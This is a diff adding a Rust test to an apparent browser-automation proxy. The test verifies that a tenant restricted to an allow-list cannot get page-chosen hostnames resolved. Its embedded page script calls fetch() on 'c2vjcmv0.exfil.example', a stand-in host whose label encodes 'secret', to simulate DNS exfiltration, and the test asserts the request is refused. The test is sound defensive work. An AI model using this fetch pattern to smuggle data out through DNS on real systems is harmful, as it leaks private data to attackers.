@@ -625,3 +625,46 @@ async fn no_tenant_page_reaches_the_browsers_debugging_port_even_with_loopback_a
     mallory.close().await;
     victim.close().await;
 }
+
+/// Finding 11: a tenant that may reach only its allow-list never has a name of the page's
+/// choosing resolved (the DNS query would carry the page's data out). The proxy refuses such
+/// names by name; an address on the list still works.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_closed_tenant_has_no_name_resolved_that_its_allow_list_does_not_name() {
+    let pages = fixtures();
+    let server = HttpServer::start(
+        &[TenantSpec::new("alice", "token-alice")
+            .on_loopback()
+            .with("egress_public = false")],
+        &[],
+    )
+    .await;
+    let alice = server.connect("token-alice").await;
+    let opened = alice
+        .call("navigate_page", json!({ "url": pages.url("/page") }))
+        .await;
+    assert!(!opened.is_error, "{}", opened.text);
+    let port = pages.port();
+    let script = format!(
+        r#"async () => {{
+            for (const host of ['localhost', 'c2vjcmv0.exfil.example']) {{
+                try {{ await fetch('http://' + host + ':{port}/api'); }} catch (error) {{}}
+            }}
+            return 'done';
+        }}"#
+    );
+    let ran = alice
+        .call("evaluate_script", json!({ "function": script }))
+        .await;
+    assert!(!ran.is_error, "{}", ran.text);
+    // The notes come with the call the refusals happened in, or else with the next one.
+    let next = alice.call("list_pages", json!({})).await;
+    let notes = format!("{}\n{}", ran.text, next.text);
+    for host in ["localhost", "c2vjcmv0.exfil.example"] {
+        let line = notes
+            .lines()
+            .find(|line| line.contains(&format!("egress policy: GET http://{host}:{port}/api:")))
+            .unwrap_or_else(|| panic!("{host} is not among the refusals: {notes}"));
+        assert!(line.contains("it was not resolved"), "{line}");
+    }
+}
